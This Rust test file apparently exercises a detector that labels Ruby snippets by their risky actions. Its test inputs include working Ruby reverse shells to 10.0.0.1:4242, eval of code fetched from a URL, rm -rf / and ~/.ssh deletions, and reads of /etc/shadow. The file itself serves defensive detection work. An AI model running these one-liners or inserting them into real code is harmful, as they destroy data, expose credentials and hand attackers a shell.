// SPDX-License-Identifier: Apache-2.0 OR MIT

use super::check;

#[test]
fn programs() {
    check(
        "ruby",
        &[
            (r#"system("rm -rf /")"#, "shell rm -rf /"),
            (r#"system "rm", "-rf", "/""#, "start rm|-rf|/"),
            ("exec 'id'", "shell id"),
            ("puts `id`", "shell id"),
            ("x = %x(rm -rf /)", "shell rm -rf /"),
            ("d = '/etc'\nsystem(\"rm -rf #{d}/x\")", "shell rm -rf /etc/x"),
            (r#"system("rm -rf #{ENV['HOME']}/x #{y}")"#, "shell rm -rf ~/x *?"),
            ("IO.popen(['rm', 'x']) { |io| io.read }", "start rm|x"),
            ("IO.popen('id', 'r')", "shell id"),
            ("require 'open3'\nout, st = Open3.capture2('ls')", "shell ls"),
            ("Kernel.system('id') if true", "shell id"),
            ("Process.spawn('id')", "shell id"),
            ("eval(\"File.delete('x')\")", "delete x"),
            ("eval x", "runs-unknown"),
            ("eval STDIN.read", "runs-input"),
            ("eval(URI.open('http://x.io').read)", "connect http://x.io; runs-fetched"),
            ("require 'open-uri'; eval open('http://x.io').read", "connect http://x.io; runs-fetched"),
            ("eval Net::HTTP.get(URI('http://x.io'))", "connect http://x.io; runs-fetched"),
            (
                "c=TCPSocket.new('10.0.0.1',4242);while(cmd=c.gets);IO.popen(cmd,'r'){|io|c.print io.read}end",
                "connect tcp://10.0.0.1:4242; runs-fetched; shell *?; reverse-shell",
            ),
            (
                "f=TCPSocket.open('10.0.0.1',4242).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)",
                "connect tcp://10.0.0.1:4242; shell /bin/sh -i <&* >&* 2>&*?; reverse-shell",
            ),
        ],
    );
}

#[test]
fn files() {
    check(
        "ruby",
        &[
            ("require 'fileutils'; FileUtils.rm_rf('/home')", "delete! /home"),
            ("FileUtils.rm_rf Dir.home", "delete! ~"),
            ("FileUtils.rm_rf(%w[a b])", "delete! a; delete! b"),
            ("FileUtils.rm_rf File.join(Dir.home, '.ssh')", "delete! ~/.ssh"),
            ("File.delete('a', 'b')", "delete a; delete b"),
            ("File.write(File.expand_path('~/.bashrc'), 'x')", "write ~/.bashrc"),
            ("Dir.glob('/etc/*').each { |f| File.delete(f) }", "delete /etc/*#"),
            ("Dir['x/*.log'].each do |f|\n  File.unlink(f)\nend", "delete x/*.log#"),
            ("Dir.glob('x/**/*') { |f| File.delete(f) }", "delete! x/**/*#"),
            ("%w[a b].each { |f| File.delete f }", "delete a; delete b"),
            ("puts File.read('/etc/shadow')", "read /etc/shadow"),
            ("File.open('/etc/x', 'w') { |f| f.puts 'a' }", "write /etc/x"),
            ("FileUtils.chmod_R 0777, '/etc'", "permit! /etc"),
            ("FileUtils.mv 'a', '/b'; FileUtils.ln_sf 'c', 'd'", "move a; write /b; write d"),
            ("require 'pathname'; Pathname.new('/x').rmtree", "delete! /x"),
        ],
    );
}

#[test]
fn what_only_looks_like_it() {
    check(
        "ruby",
        &[
            ("puts 'rm -rf /'", ""),
            ("# system('rm')", ""),
            ("=begin\nsystem('rm')\n=end\nputs 1", ""),
            ("x = %q(system('rm'))", ""),
            ("puts(/`rm`/ =~ s)", ""),
            ("h = { system: 1, exec: 2 }\nputs h[:system]", ""),
            ("a.delete('x'); h.delete(:y)", ""),
            ("puts <<~EOS\n  system('rm')\nEOS\nputs 1", ""),
            ("puts 10 / 2 / 1", ""),
            ("[1, 2].each { |x| puts x }.map(&:to_s)", ""),
            ("puts Dir.home, Dir.pwd", ""),
            ("def system_name; 'x'; end", ""),
            ("puts JSON.parse(File.read('package.json'))['name']", "read package.json"),
        ],
    );
}
